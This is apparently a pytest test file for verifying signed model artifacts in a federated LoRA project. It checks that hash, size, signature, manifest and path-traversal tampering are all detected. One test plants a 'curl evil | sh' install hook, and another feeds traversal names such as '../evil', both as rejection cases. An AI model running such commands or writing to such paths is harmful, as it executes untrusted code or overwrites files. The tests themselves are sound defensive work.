"""The signed artifact: an untampered one verifies; every kind of tampering is caught
with the right ``kind``; payloads and installs touch only the files they should."""

from __future__ import annotations

import hashlib
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey, Ed25519PublicKey

from common.artifact import (
    ADAPTER_FILES,
    ARTIFACT_FILES,
    MANIFEST,
    MODEL_INT8,
    SIGNATURE,
    FileEntry,
    Manifest,
    artifact_payload,
    file_entries,
    install,
    sign_manifest,
    verify_artifact,
    write_payload,
)
from common.errors import ArtifactError, FedloraError
from common.signing import fingerprint, public_key_text, sign
from tests.artifacts import BuiltArtifact, build_test_artifact

TABULAR = "tabular-classification"

pytestmark = pytest.mark.slow  # every test here starts from a real exported artifact


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, site_workspace: Path) -> BuiltArtifact:
    root = tmp_path_factory.mktemp("artifact-tabular")
    return build_test_artifact(root, TABULAR, site_workspace / "models" / TABULAR)


@pytest.fixture
def artifact(built: BuiltArtifact, tmp_path: Path) -> Path:
    """A private copy of the built artifact, free to tamper with."""
    copy = tmp_path / "artifact"
    shutil.copytree(built.directory, copy)
    return copy


@pytest.fixture
def trusted(built: BuiltArtifact) -> Ed25519PublicKey:
    return built.key.public_key()


def _error(function: Callable[..., object], *args: object) -> ArtifactError:
    with pytest.raises(ArtifactError) as caught:
        function(*args)
    assert isinstance(caught.value, FedloraError)
    return caught.value


def _kind(directory: Path, key: Ed25519PublicKey) -> str:
    return _error(verify_artifact, directory, key).kind


def _manifest(directory: Path) -> Manifest:
    return Manifest.model_validate_json((directory / MANIFEST).read_bytes())


# ------------------------------------------------------------------ untampered ---


def test_untampered_artifact_verifies(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    verified = verify_artifact(artifact, trusted)
    data = (artifact / MANIFEST).read_bytes()
    assert verified.manifest_sha256 == hashlib.sha256(data).hexdigest()
    assert verified.manifest == built.manifest
    assert verified.directory == artifact
    assert verified.signer_public_key == public_key_text(trusted)
    assert verified.manifest.signer == fingerprint(trusted)
    assert set(verified.manifest.files) == set(ARTIFACT_FILES)
    for name, entry in verified.manifest.files.items():
        content = (artifact / name).read_bytes()
        assert entry.bytes == len(content) > 0
        assert entry.sha256 == hashlib.sha256(content).hexdigest()


def test_built_manifest_records_the_run(built: BuiltArtifact) -> None:
    manifest = built.manifest
    assert manifest.task == TABULAR
    assert manifest.run == "77"
    assert manifest.outputs == ["logits"]
    assert [(s.site, s.epsilon, s.rounds_trained) for s in manifest.sites] == [
        ("site-a", 3.5, 2),
        ("site-b", 4.0, 2),
    ]
    assert manifest.lora["r"] == 16
    assert manifest.lora["target_modules"] == ["q_proj", "v_proj"]
    # The tabular base trains its linear path in full beside the head.
    assert manifest.lora["modules_to_save"] == ["classifier", "linear_head"]
    assert manifest.metrics is not None
    assert manifest.metrics.accuracy_loss == pytest.approx(0.0)
    assert manifest.files == file_entries(built.directory)


def test_unlisted_files_do_not_break_verification(
    artifact: Path, trusted: Ed25519PublicKey
) -> None:
    (artifact / "preprocessing.json").write_text('{"mean": [0.0]}')
    (artifact / "notes").mkdir()
    (artifact / "notes" / "readme.txt").write_text("site notes")
    verified = verify_artifact(artifact, trusted)
    assert "preprocessing.json" not in verified.manifest.files


# ------------------------------------------------------------- tampered files ---


def test_flipped_model_byte_is_a_hash_mismatch(artifact: Path, trusted: Ed25519PublicKey) -> None:
    path = artifact / MODEL_INT8
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    assert _kind(artifact, trusted) == "hash-mismatch"


def test_altered_adapter_is_a_hash_mismatch(artifact: Path, trusted: Ed25519PublicKey) -> None:
    path = artifact / ADAPTER_FILES[0]
    data = bytearray(path.read_bytes())
    data[-1] ^= 0xFF
    path.write_bytes(bytes(data))
    assert _kind(artifact, trusted) == "hash-mismatch"


def test_appended_bytes_are_a_size_mismatch(artifact: Path, trusted: Ed25519PublicKey) -> None:
    with (artifact / MODEL_INT8).open("ab") as handle:
        handle.write(b"\0\0\0\0")
    assert _kind(artifact, trusted) == "size-mismatch"


def test_truncated_file_is_a_size_mismatch(artifact: Path, trusted: Ed25519PublicKey) -> None:
    path = artifact / ADAPTER_FILES[1]
    path.write_bytes(path.read_bytes()[:-1])
    assert _kind(artifact, trusted) == "size-mismatch"


@pytest.mark.parametrize("name", ARTIFACT_FILES)
def test_deleted_listed_file_is_missing(
    artifact: Path, trusted: Ed25519PublicKey, name: str
) -> None:
    (artifact / name).unlink()
    assert _kind(artifact, trusted) == "missing-file"


@pytest.mark.parametrize("name", [MANIFEST, SIGNATURE])
def test_missing_manifest_or_signature_is_missing(
    artifact: Path, trusted: Ed25519PublicKey, name: str
) -> None:
    (artifact / name).unlink()
    assert _kind(artifact, trusted) == "missing-file"


# --------------------------------------------------------- tampered manifest ---


def test_edited_epsilon_breaks_the_signature(artifact: Path, trusted: Ed25519PublicKey) -> None:
    path = artifact / MANIFEST
    document = json.loads(path.read_bytes())
    assert document["sites"][0]["epsilon"] == 3.5
    document["sites"][0]["epsilon"] = 0.5
    path.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")
    assert _kind(artifact, trusted) == "bad-signature"


def test_whitespace_change_breaks_the_signature(artifact: Path, trusted: Ed25519PublicKey) -> None:
    path = artifact / MANIFEST
    path.write_bytes(path.read_bytes() + b"\n")
    assert _kind(artifact, trusted) == "bad-signature"


def test_files_edited_together_with_manifest_are_caught(
    artifact: Path, trusted: Ed25519PublicKey
) -> None:
    """Replacing the model and updating its hash in the manifest still fails: the
    signature covers the manifest."""
    model = artifact / MODEL_INT8
    model.write_bytes(model.read_bytes() + b"evil")
    path = artifact / MANIFEST
    document = json.loads(path.read_bytes())
    entry = FileEntry.model_validate(document["files"][MODEL_INT8])
    assert entry.bytes + 4 == model.stat().st_size
    document["files"][MODEL_INT8] = {
        "sha256": hashlib.sha256(model.read_bytes()).hexdigest(),
        "bytes": model.stat().st_size,
    }
    path.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")
    assert _kind(artifact, trusted) == "bad-signature"


@pytest.mark.parametrize(
    "signature",
    [b"", b"not base64 at all!\n", b"\xff\xfe\x00garbage", b"AAAA\n"],
    ids=["empty", "not-base64", "binary", "short"],
)
def test_corrupt_signature_is_a_bad_signature(
    artifact: Path, trusted: Ed25519PublicKey, signature: bytes
) -> None:
    (artifact / SIGNATURE).write_bytes(signature)
    assert _kind(artifact, trusted) == "bad-signature"


def test_flipped_signature_bit_is_a_bad_signature(
    artifact: Path, trusted: Ed25519PublicKey
) -> None:
    path = artifact / SIGNATURE
    text = path.read_text().strip()
    flipped = ("B" if text[0] == "A" else "A") + text[1:]
    path.write_text(flipped + "\n")
    assert _kind(artifact, trusted) == "bad-signature"


def test_manifest_signed_by_another_key_is_a_bad_signature(
    artifact: Path, trusted: Ed25519PublicKey
) -> None:
    other = Ed25519PrivateKey.generate()
    manifest = _manifest(artifact).model_copy(update={"signer": fingerprint(other.public_key())})
    sign_manifest(artifact, manifest, other)
    # Genuinely signed, by a key that is not the pinned one.
    assert verify_artifact(artifact, other.public_key()).manifest.signer != fingerprint(trusted)
    assert _kind(artifact, trusted) == "bad-signature"


def test_another_trusted_key_rejects_a_genuine_artifact(artifact: Path) -> None:
    assert _kind(artifact, Ed25519PrivateKey.generate().public_key()) == "bad-signature"


# ------------------------------------------ signed by the right key, but wrong ---


def _resign(directory: Path, data: bytes, key: Ed25519PrivateKey) -> None:
    (directory / MANIFEST).write_bytes(data)
    (directory / SIGNATURE).write_text(sign(key, data) + "\n")


def test_manifest_lacking_a_file_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    manifest = _manifest(artifact)
    files = {k: v for k, v in manifest.files.items() if k != ADAPTER_FILES[1]}
    sign_manifest(artifact, manifest.model_copy(update={"files": files}), built.key)
    error = _error(verify_artifact, artifact, trusted)
    assert error.kind == "bad-manifest"
    assert ADAPTER_FILES[1] in str(error)


def test_manifest_listing_an_extra_file_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    extra = artifact / "run.py"
    extra.write_text("print('hello')\n")
    manifest = _manifest(artifact)
    files = {
        **manifest.files,
        "run.py": FileEntry(
            sha256=hashlib.sha256(extra.read_bytes()).hexdigest(), bytes=extra.stat().st_size
        ),
    }
    sign_manifest(artifact, manifest.model_copy(update={"files": files}), built.key)
    assert _kind(artifact, trusted) == "bad-manifest"


@pytest.mark.parametrize(
    "data",
    [
        b"this is not json\n",
        b"{}\n",
        b'{"format": "fedlora-artifact/2"}\n',
        b"[1, 2, 3]\n",
    ],
    ids=["not-json", "empty-object", "wrong-format", "list"],
)
def test_signed_malformed_manifest_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey, data: bytes
) -> None:
    _resign(artifact, data, built.key)
    assert _kind(artifact, trusted) == "bad-manifest"


def test_signed_manifest_with_an_invalid_hash_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    document = json.loads((artifact / MANIFEST).read_bytes())
    document["files"][MODEL_INT8]["sha256"] = "XYZ"
    _resign(artifact, json.dumps(document).encode(), built.key)
    assert _kind(artifact, trusted) == "bad-manifest"


def test_signed_manifest_with_an_unknown_field_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    document = json.loads((artifact / MANIFEST).read_bytes())
    document["install_hook"] = "curl evil | sh"
    _resign(artifact, json.dumps(document).encode(), built.key)
    assert _kind(artifact, trusted) == "bad-manifest"


def test_manifest_naming_another_signer_is_a_bad_manifest(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    other = fingerprint(Ed25519PrivateKey.generate().public_key())
    manifest = _manifest(artifact).model_copy(update={"signer": other})
    _resign(artifact, manifest.to_bytes(), built.key)
    assert _kind(artifact, trusted) == "bad-manifest"


def test_sign_manifest_refuses_another_signer(artifact: Path, built: BuiltArtifact) -> None:
    before = {name: (artifact / name).read_bytes() for name in (MANIFEST, SIGNATURE)}
    other = Ed25519PrivateKey.generate()
    error = _error(sign_manifest, artifact, built.manifest, other)
    assert error.kind == "untrusted-signer"
    # Nothing was written.
    assert {name: (artifact / name).read_bytes() for name in before} == before


def test_sign_manifest_writes_the_manifest_bytes_it_returns(
    artifact: Path, built: BuiltArtifact, trusted: Ed25519PublicKey
) -> None:
    changed = built.manifest.model_copy(update={"run": "78"})
    data = sign_manifest(artifact, changed, built.key)
    assert (artifact / MANIFEST).read_bytes() == data == changed.to_bytes()
    assert verify_artifact(artifact, trusted).manifest.run == "78"


# ---------------------------------------------------------------- the manifest ---


def test_manifest_json_round_trips(built: BuiltArtifact) -> None:
    data = built.manifest.to_bytes()
    again = Manifest.model_validate_json(data)
    assert again == built.manifest
    assert again.to_bytes() == data
    assert Manifest.model_validate(json.loads(data)) == built.manifest
    # Canonical form: sorted keys, so the same manifest always gives the same bytes.
    document = json.loads(data)
    assert list(document) == sorted(document)
    assert data.endswith(b"}\n")


def test_file_entries_requires_every_artifact_file(artifact: Path) -> None:
    entries = file_entries(artifact)
    assert set(entries) == set(ARTIFACT_FILES)
    (artifact / ADAPTER_FILES[0]).unlink()
    error = _error(file_entries, artifact)
    assert error.kind == "missing-file"
    assert ADAPTER_FILES[0] in str(error)


# ----------------------------------------------------------- moving artifacts ---


def test_payload_round_trips_through_write_payload(
    artifact: Path, tmp_path: Path, trusted: Ed25519PublicKey
) -> None:
    payload = artifact_payload(artifact)
    assert set(payload) == {*ARTIFACT_FILES, MANIFEST, SIGNATURE}
    received = tmp_path / "received"
    write_payload(payload, received)
    written = sorted(p.relative_to(received).as_posix() for p in received.rglob("*") if p.is_file())
    assert written == sorted(payload)
    for name, data in payload.items():
        assert (received / name).read_bytes() == data
    verify_artifact(received, trusted)


@pytest.mark.parametrize(
    "name", ["../evil", "x.py", "adapter/../../evil", "/tmp/evil", "manifest.json/../x"]
)
def test_write_payload_refuses_unknown_names(artifact: Path, tmp_path: Path, name: str) -> None:
    payload = {**artifact_payload(artifact), name: b"import os\n"}
    target = tmp_path / "inbox" / "received"
    before = sorted(tmp_path.rglob("*"))
    error = _error(write_payload, payload, target)
    assert error.kind == "bad-payload"
    assert name in str(error)
    assert not target.exists()
    assert sorted(tmp_path.rglob("*")) == before


@pytest.mark.parametrize("name", [SIGNATURE, MANIFEST, *ARTIFACT_FILES])
def test_write_payload_refuses_missing_names(artifact: Path, tmp_path: Path, name: str) -> None:
    payload = artifact_payload(artifact)
    del payload[name]
    target = tmp_path / "received"
    error = _error(write_payload, payload, target)
    assert error.kind == "bad-payload"
    assert name in str(error)
    assert not target.exists()


def _folder(path: Path, marker: str) -> Path:
    path.mkdir(parents=True)
    (path / "marker.txt").write_text(marker)
    return path


def test_install_into_an_empty_place(tmp_path: Path) -> None:
    staged = _folder(tmp_path / "staged", "new")
    target = tmp_path / "installed" / "tabular"
    target.parent.mkdir()
    install(staged, target)
    assert (target / "marker.txt").read_text() == "new"
    assert not staged.exists()
    assert not target.with_name("tabular.previous").exists()


def test_install_keeps_the_replaced_artifact_as_previous(tmp_path: Path) -> None:
    target = _folder(tmp_path / "tabular", "old")
    stale = _folder(tmp_path / "tabular.previous", "older")
    (stale / "only-in-older").write_text("x")
    install(_folder(tmp_path / "staged", "new"), target)
    assert (target / "marker.txt").read_text() == "new"
    previous = tmp_path / "tabular.previous"
    assert (previous / "marker.txt").read_text() == "old"
    assert not (previous / "only-in-older").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["tabular", "tabular.previous"]


def test_installed_artifact_still_verifies(
    artifact: Path, built: BuiltArtifact, tmp_path: Path, trusted: Ed25519PublicKey
) -> None:
    target = tmp_path / "models" / TABULAR
    target.parent.mkdir()
    install(artifact, target)
    first = verify_artifact(target, trusted).manifest_sha256
    staged = tmp_path / "staged"
    shutil.copytree(built.directory, staged)
    sign_manifest(staged, built.manifest.model_copy(update={"run": "78"}), built.key)
    install(staged, target)
    assert verify_artifact(target, trusted).manifest.run == "78"
    assert verify_artifact(target.with_name(f"{TABULAR}.previous"), trusted).manifest_sha256 == (
        first
    )
